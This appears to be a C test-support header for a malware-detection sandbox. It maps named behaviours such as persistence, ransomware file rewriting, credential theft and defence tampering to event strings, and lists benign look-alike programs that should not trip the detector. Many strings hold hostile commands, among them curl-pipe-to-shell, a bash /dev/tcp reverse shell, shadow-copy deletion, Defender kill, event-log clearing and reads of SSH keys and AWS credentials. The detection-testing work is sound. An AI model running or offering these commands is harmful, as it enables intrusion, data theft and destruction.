/*
 * tests/support/behaviour_acts.h - for each behaviour that we ship, what a
 * program that shows it makes a guest report; and innocent programs that do
 * the like for good reasons.  Strings as in tests/support/detector_site.h,
 * with \u007c for |.
 */
#ifndef SLUICE_TESTS_BEHAVIOUR_ACTS_H
#define SLUICE_TESTS_BEHAVIOUR_ACTS_H

#define ACT_EVENTS 24

struct act {
	const char *id; /* the behaviour, or the innocent program's name */
	const char *events[ACT_EVENTS];
};

#define RUN_KEY \
	"HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\" \
	"CurrentVersion\\\\Run"
#define HKLM_RUN \
	"\\\\Registry\\\\Machine\\\\Software\\\\Wow6432Node\\\\Microsoft\\\\" \
	"Windows\\\\CurrentVersion\\\\Run"
#define SERVICES "HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\"
#define HOME     "C:\\\\users\\\\root\\\\"
#define ROAMING  HOME "AppData\\\\Roaming\\\\"
#define TEMP     HOME "AppData\\\\Local\\\\Temp\\\\"
#define STARTUP \
	ROAMING "Microsoft\\\\Windows\\\\Start " \
		"Menu\\\\Programs\\\\Startup\\\\"
#define PROGRAM "C:\\\\Program Files\\\\Plan\\\\plan.exe"

static const struct act actors[] = {
    {"run-key", {"registry.set|key=" RUN_KEY "|name=a|data=" PROGRAM}},
    {"run-key-hidden", {"registry.set|key=" HKLM_RUN "|name=a|data=\\\"" ROAMING
			"upd.exe\\\" /q"}},
    {"run-key-hidden",
	{"registry.set|key=" RUN_KEY "|name=a|data=D:\\\\x\\\\sample.bin"}},
    {"run-key-hidden",
	{"process.start|path=C:\\\\windows\\\\system32\\\\reg.exe|args="
	 "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion"
	 "\\\\Run /v a /d %temp%\\\\a.exe"}},
    {"startup-folder", {"file.create|path=" STARTUP "a.lnk"}},
    {"startup-program", {"file.create|path=" STARTUP "a.vbs"}},
    {"startup-program", {"file.rename|path=C:\\\\a|to=" STARTUP "a.exe"}},
    {"service",
	{"registry.set|key=" SERVICES "x|name=ImagePath|data=" PROGRAM}},
    {"service-hidden",
	{"registry.set|key=" SERVICES "x|name=ImagePath|data=" TEMP "x.exe"}},
    {"task", {"process.start|args=schtasks.exe /Create /tn a /tr " PROGRAM}},
    {"task-hidden",
	{"process.start|args=SCHTASKS /create /sc onlogon /tr \\\"" TEMP
	 "a.exe\\\""}},
    {"logon-hook",
	{"registry.set|key=HKLM\\\\Software\\\\Microsoft\\\\Windows NT\\\\"
	 "CurrentVersion\\\\Winlogon|name=Shell|data=a.exe"}},
    {"cron", {"file.write|path=/etc/cron.d/a"}},
    {"crontab", {"file.write|path=/var/spool/cron/crontabs/root"}},
    {"crontab", {"process.start|path=/usr/bin/crontab|args=crontab -"}},
    {"profile", {"file.write|path=/root/.bashrc"}},
    {"unit", {"file.create|path=/etc/systemd/system/a.service"}},
    {"user-unit", {"file.create|path=/root/.config/systemd/user/a.service"}},
    {"autostart", {"file.create|path=/root/.config/autostart/a.desktop"}},
    {"start-hidden",
	{"file.write|path=/root/.config/autostart/a.desktop|data=[Desktop "
	 "Entry]\\nExec=/tmp/.x/run"}},
    {"preload-all", {"file.create|path=/etc/ld.so.preload"}},
    {"ssh-key", {"file.write|path=/root/.ssh/authorized_keys"}},
    {"account", {"file.write|path=/etc/passwd"}},
    {"account", {"process.start|args=net user eve secret /add"}},
    {"rewrite-documents", {"5*file.write|path=/root/Documents/#.doc"}},
    {"rewrite-documents",
	{"5*file.write|path=C:\\\\users\\\\root\\\\Desktop\\\\#.xls"}},
    {"rewrite-documents", {"5*file.delete|path=/root/Documents/#.doc",
			      "5*file.create|path=/root/Documents/#.doc"}},
    {"rename-documents",
	{"5*file.rename|path=/root/Documents/#.doc|to=/root/Documents/"
	 "#.doc.locked"}},
    {"replace-documents",
	{"5*file.create|path=/root/Documents/#.x",
	    "5*file.rename|path=/root/Documents/#.x|to=/root/Documents/"
	    "#.doc"}},
    {"delete-documents", {"5*file.delete|path=/root/Pictures/#.jpg"}},
    {"odd-copies", {"5*file.create|path=/root/Documents/#.doc.crypted"}},
    {"ransom-note",
	{"file.create|path=/root/Desktop/HOW_TO_DECRYPT_FILES.txt"}},
    {"ransom-note", {"file.write|path=/root/a|data=Your files are encrypted"}},
    {"notes-everywhere", {"3*file.create|path=/root/Documents/#/!READ.txt"}},
    {"no-way-back",
	{"process.start|args=vssadmin.exe Delete Shadows /All /Quiet"}},
    {"no-way-back",
	{"process.start|args=cmd /c bcdedit /set {default} recoveryenabled "
	 "No"}},
    {"no-way-back",
	{"process.start|path=/sbin/btrfs|args=btrfs subvolume delete /s/1"}},
    {"disk", {"file.write|path=/dev/vda"}},
    {"disk", {"file.write|path=\\\\\\\\.\\\\PhysicalDrive0"}},
    {"dropped-and-run",
	{"file.create|path=/opt/x/a", "process.start|path=/opt/x/a"}},
    {"dropped-by-shell",
	{"file.create|path=/tmp/a.sh", "process.start|args=sh /tmp/a.sh"}},
    {"run-from-lair",
	{"file.create|path=/dev/shm/a", "process.start|path=/dev/shm/a"}},
    {"run-from-lair", {"file.create|path=" ROAMING "a.exe",
			  "process.start|path=/root/.wine/"
			  "drive_c/users/root/AppData/Roaming/a.exe"}},
    {"downloaded-and-run",
	{"net.data|addr=10.0.0.2|port=80", "file.create|path=/opt/a",
	    "process.start|path=/opt/a"}},
    {"fetched-and-run",
	{"process.start|path=/bin/sh|args=sh -c \\\"curl -s http://x/a \\u007c "
	 "sh\\\""}},
    {"fetched-and-run",
	{"process.start|args=certutil -urlcache -f http://x/a a.exe"}},
    {"encoded-command",
	{"process.start|args=powershell.exe -NoP -Enc SQBFAFgA"}},
    {"encoded-command", {"process.start|args=p^owershell -w hidden -c x"}},
    {"decoded-and-run", {"process.start|args=sh -c \\\"echo aWQ= \\u007c "
			 "base64 -d \\u007c sh\\\""}},
    {"from-memory", {"process.start|path=/memfd:a (deleted)"}},
    {"script-starts-shell",
	{"process.start|parent=C:\\\\windows\\\\system32\\\\wscript.exe|"
	 "path=C:\\\\windows\\\\system32\\\\cmd.exe"}},
    {"document-starts-shell",
	{"process.start|parent=C:\\\\Office\\\\WINWORD.EXE|"
	 "path=C:\\\\windows\\\\system32\\\\cmd.exe"}},
    {"document-starts-program",
	{"process.start|path=/usr/lib/libreoffice/program/soffice.bin",
	    "file.create|path=/opt/a", "process.start|path=/opt/a"}},
    {"posing", {"process.start|path=" ROAMING "svchost.exe"}},
    {"posing", {"process.start|path=/tmp/.x/[kworker]"}},
    {"two-endings", {"process.start|path=" HOME "Invoice.pdf.exe"}},
    {"remote-thread", {"process.inject|target=44|how=remote-thread"}},
    {"write-memory", {"process.inject|target=44|how=write-memory"}},
    {"ptrace", {"process.inject|target=44|how=ptrace"}},
    {"preload", {"process.inject|target=44|how=preload|path=/lib/a.so"}},
    {"preload-own", {"file.create|path=/tmp/a.so",
			"process.inject|target=44|how=preload|path=/tmp/a.so"}},
    {"library-in-place", {"file.create|path=" TEMP "version.dll",
			     "image.load|path=" TEMP "version.dll"}},
    {"secrets", {"file.read|path=/root/.ssh/id_rsa"}},
    {"secrets-many",
	{"file.read|path=/root/.ssh/id_rsa",
	    "file.read|path=/root/.aws/credentials",
	    "file.read|path=/root/.mozilla/firefox/a/logins.json"}},
    {"secrets-sent",
	{"file.read|path=/root/.ssh/id_rsa", "net.data|addr=10.0.0.2"}},
    {"documents-sent",
	{"5*file.read|path=/root/Documents/#.doc", "net.data|addr=10.0.0.2"}},
    {"keys-watched", {"hook.set|name=WH_KEYBOARD_LL"}},
    {"keys-watched", {"file.read|path=/dev/input/event0"}},
    {"screen-watched", {"hook.set|name=screen"}},
    {"watched-and-sent",
	{"hook.set|name=WH_KEYBOARD_LL", "net.data|addr=10.0.0.2"}},
    {"clipboard", {"hook.set|name=clipboard"}},
    {"sniffing", {"system.call|name=socket|args=AF_PACKET"}},
    {"connects", {"net.connect|addr=10.0.0.2|port=443"}},
    {"beacon", {"5*net.connect|addr=10.0.0.2|port=443"}},
    {"odd-port", {"net.connect|addr=10.0.0.2|port=6667"}},
    {"spreading", {"5*net.connect|addr=10.0.0.#|port=445"}},
    {"mails", {"net.mail|to=a@example.org"}},
    {"mails-many", {"5*net.mail|to=#@example.org"}},
    {"mails-the-address-book", {"file.read|path=/root/Documents/friends.vcf",
				   "2*net.mail|to=#@example.org"}},
    {"back-door", {"net.listen|port=4444"}},
    {"back-door-shell",
	{"net.listen|port=4444", "process.start|path=/bin/sh|args=sh -i"}},
    {"back-door-shell",
	{"process.start|args=bash -c \\\"bash -i >& /dev/tcp/10.0.0.2/1 "
	 "0>&1\\\""}},
    {"mining", {"process.start|args=./x -o stratum+tcp://pool:3333"}},
    {"kills-security", {"process.kill|target=7|path=/usr/sbin/clamd"}},
    {"kills-security", {"process.start|args=taskkill /f /im MsMpEng.exe"}},
    {"no-firewall",
	{"process.start|args=netsh advfirewall set allprofiles state off"}},
    {"firewall-hole",
	{"process.start|args=netsh advfirewall firewall add rule name=a"}},
    {"no-defence",
	{"registry.set|key=HKLM\\\\Software\\\\Policies\\\\Microsoft\\\\"
	 "Windows Defender|name=DisableAntiSpyware|data=1"}},
    {"more-rights",
	{"registry.set|key=HKCU\\\\Software\\\\Classes\\\\ms-settings\\\\shell"
	 "\\\\open\\\\command|data=a"}},
    {"more-rights", {"file.mode|path=/tmp/a|mode=4755"}},
    {"no-traces", {"process.start|args=wevtutil cl Security"}},
    {"deletes-itself", {"file.delete|path=/root/Downloads/sample.bin"}},
    {"deletes-itself", {"process.start|args=cmd /c ping -n 3 x & del " HOME
			"Downloads\\\\sample.bin"}},
    {"hides", {"process.start|args=attrib +h +s c:\\\\a"}},
    {"changes-system", {"file.write|path=/usr/bin/ls"}},
    {"hosts", {"file.write|path=/etc/hosts"}},
    {"proxy", {"registry.set|key=HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
	       "CurrentVersion\\\\Internet Settings|name=ProxyServer|data=x"}},
    {"kernel-module", {"system.call|name=finit_module"}},
    {"escape", {"system.call|name=bpf"}},
    {"escape", {"system.call|name=unshare|args=CLONE_NEWUSER"}},
    {"escape", {"file.write|path=/proc/sys/kernel/core_pattern"}},
    {"restart", {"system.call|name=reboot"}},
    {"mounts", {"system.call|name=mount|args=/mnt"}},
    {"probes-kernel", {"system.call|name=perf_event_open"}},
    {"clock", {"system.call|name=settimeofday"}},
    {"sleeps", {"system.call|name=sleep|args=300 seconds"}},
    {"looks-for-a-machine", {"process.start|args=systemd-detect-virt"}},
    {"looks-around",
	{"process.start|args=whoami", "process.start|args=systeminfo",
	    "process.start|args=ipconfig /all", "process.start|args=net view"}},
    {"swarm", {"100*process.start|path=/bin/true"}},
    {"fork-bomb", {"system.call|name=fork|args=512 refused"}},
};

/* Under the threshold, each. */
static const struct act twins[] = {
    {"an installer",
	{"5*file.create|path=" TEMP "is-A.tmp\\\\#.tmp",
	    "file.create|path=" TEMP "is-A.tmp\\\\setup.exe",
	    "process.start|path=" TEMP "is-A.tmp\\\\setup.exe",
	    "9*file.create|path=C:\\\\Program Files\\\\Plan\\\\#.dll",
	    "file.create|path=" PROGRAM,
	    "file.create|path=" ROAMING "Microsoft\\\\Windows\\\\Start Menu"
	    "\\\\Programs\\\\Plan.lnk",
	    "registry.set|key=HKLM\\\\Software\\\\Microsoft\\\\Windows\\\\"
	    "CurrentVersion\\\\Uninstall\\\\Plan|name=DisplayName|data=Plan",
	    "registry.set|key=" RUN_KEY "|name=Plan|data=" PROGRAM " -tray",
	    "process.start|path=" PROGRAM}},
    {"an installer with a service",
	{"file.create|path=C:\\\\Program Files\\\\Plan\\\\svc.exe",
	    "registry.set|key=" SERVICES "Plan|name=ImagePath|data="
	    "\\\"C:\\\\Program Files\\\\Plan\\\\svc.exe\\\"",
	    "process.start|path=C:\\\\Program Files\\\\Plan\\\\svc.exe",
	    "process.start|args=netsh advfirewall firewall add rule name=p",
	    "net.listen|port=8443"}},
    {"an installer for one user",
	{"file.create|path=" HOME
	 "AppData\\\\Local\\\\Programs\\\\Plan\\\\plan.exe",
	    "registry.set|key=" RUN_KEY "|name=Plan|data=" HOME
	    "AppData\\\\Local\\\\Programs\\\\Plan\\\\plan.exe",
	    "process.start|path=" HOME
	    "AppData\\\\Local\\\\Programs\\\\Plan\\\\plan.exe",
	    "net.connect|addr=10.0.0.2|port=443"}},
    {"an installer into /opt",
	{"process.start|path=/bin/sh|args=sh /root/Downloads/sample.bin",
	    "9*file.create|path=/opt/plan/#.so",
	    "file.create|path=/opt/plan/bin/plan",
	    "file.mode|path=/opt/plan/bin/plan|mode=755",
	    "file.create|path=/usr/bin/plan",
	    "file.create|path=/etc/systemd/system/plan.service",
	    "process.start|path=/bin/systemctl|args=systemctl enable plan",
	    "file.create|path=/usr/share/applications/plan.desktop",
	    "process.start|path=/opt/plan/bin/plan"}},
    {"an installer of a tool chain",
	{"9*file.create|path=/root/.cargo/bin/#",
	    "file.write|path=/root/.profile", "file.write|path=/root/.bashrc",
	    "net.connect|addr=10.0.0.2|port=443",
	    "file.create|path=/root/.cargo/bin/cargo",
	    "process.start|path=/root/.cargo/bin/cargo"}},
    {"a package with a service and a daily job",
	{"process.start|path=/bin/sh|args=sh /root/Downloads/sample.bin",
	    "file.create|path=/opt/plan/bin/plan",
	    "file.create|path=/etc/systemd/system/plan.service",
	    "file.create|path=/etc/cron.daily/plan",
	    "process.start|path=/opt/plan/bin/plan",
	    "net.dns|name=updates.example.org"}},
    {"a tool that is fetched for one user",
	{"net.dns|name=updates.example.org",
	    "file.create|path=/root/.plan/bin/plan",
	    "process.start|path=/root/.plan/bin/plan",
	    "file.write|path=/root/.bashrc|data=PATH=/root/.plan/bin"}},
    {"an archiver", {"9*file.read|path=/root/Documents/#.doc",
			"file.create|path=/root/Documents/all.zip",
			"file.write|path=/root/Documents/all.zip"}},
    {"an archiver that moves", {"9*file.read|path=/root/Documents/#.doc",
				   "file.create|path=/root/Documents/all.zip",
				   "file.write|path=/root/Documents/all.zip",
				   "9*file.delete|path=/root/Documents/#.doc"}},
    {"an unarchiver",
	{"9*file.create|path=/root/Documents/src/#.c",
	    "9*file.write|path=/root/Documents/src/#.c",
	    "3*file.create|path=/root/Documents/src/#/README.txt"}},
    {"a compressor of each file",
	{"9*file.create|path=/root/Documents/#.doc.gz",
	    "9*file.delete|path=/root/Documents/#.doc"}},
    {"an editor",
	{"file.read|path=/root/Documents/plan.doc",
	    "file.create|path=/root/Documents/plan.doc.tmp",
	    "file.write|path=/root/Documents/plan.doc.tmp",
	    "file.rename|path=/root/Documents/plan.doc|to=/root/Documents/"
	    "plan.doc~",
	    "file.rename|path=/root/Documents/plan.doc.tmp|to=/root/Documents/"
	    "plan.doc"}},
    {"an editor that writes over a few",
	{"4*file.write|path=/root/Documents/#.doc"}},
    {"an updater", {"net.dns|name=updates.example.org",
		       "net.connect|addr=10.0.0.2|port=443",
		       "net.data|addr=10.0.0.2|port=443|data=GET",
		       "file.create|path=/opt/plan/plan.new",
		       "file.write|path=/opt/plan/plan.new",
		       "file.rename|path=/opt/plan/plan.new|to=/opt/plan/plan",
		       "process.kill|target=55|path=/opt/plan/plan",
		       "process.start|path=/opt/plan/plan"}},
    {"an updater that fetches a set-up",
	{"net.connect|addr=10.0.0.2|port=443", "net.data|addr=10.0.0.2",
	    "file.create|path=" TEMP "setup.exe",
	    "process.start|path=" TEMP "setup.exe",
	    "file.delete|path=" TEMP "setup.exe"}},
    {"a script with many children",
	{"process.start|path=/bin/sh|args=sh /root/Downloads/sample.bin",
	    "90*process.start|path=/bin/sed|args=sed s/a/#/",
	    "5*file.create|path=/tmp/tmp.#", "5*file.delete|path=/tmp/tmp.#",
	    "process.start|args=uname -a", "process.start|args=ps aux",
	    "process.start|args=sleep 5"}},
    {"a test run",
	{"process.start|path=/usr/bin/python3|args=python3 -m pytest",
	    "9*file.create|path=/root/.cache/pytest/#",
	    "file.create|path=/tmp/pytest-0/a.sh",
	    "process.start|path=/bin/sh|args=sh /tmp/pytest-0/a.sh",
	    "net.listen|port=40123", "net.connect|addr=127.0.0.1|port=40123",
	    "process.kill|target=77|path=/usr/bin/python3"}},
    {"configure and make",
	{"file.create|path=/tmp/b/conftest",
	    "process.start|path=/tmp/b/"
	    "conftest",
	    "9*file.create|path=/tmp/b/#.o", "file.create|path=/tmp/b/prog",
	    "process.start|path=/tmp/b/prog", "file.create|path=/tmp/b/libx.so",
	    "process.inject|target=90|how=preload|path=/usr/lib/libfakeroot."
	    "so"}},
    {"git over ssh",
	{"process.start|path=/usr/bin/ssh|args=ssh git@example.org",
	    "file.read|path=/root/.ssh/id_ed25519",
	    "net.connect|addr=10.0.0.2|port=22", "net.data|addr=10.0.0.2"}},
    {"a script with too many jobs",
	{"process.start|path=/usr/bin/python3|args=python3 "
	 "/root/Downloads/sample.bin",
	    "9*file.create|path=/tmp/job.#",
	    "system.call|name=fork|args=12 refused"}},
    {"a photo renamer",
	{"9*file.rename|path=/root/Pictures/#.jpg|to=/root/Pictures/"
	 "2024-#.jpg"}},
    {"a document with pictures",
	{"process.start|path=/usr/lib/libreoffice/program/soffice.bin|"
	 "args=soffice a.odt",
	    "9*file.create|path=/tmp/lu#.tmp",
	    "9*file.delete|path=/tmp/lu#.tmp",
	    "process.start|path=/usr/lib/libreoffice/program/javaldx"}},
};

#endif
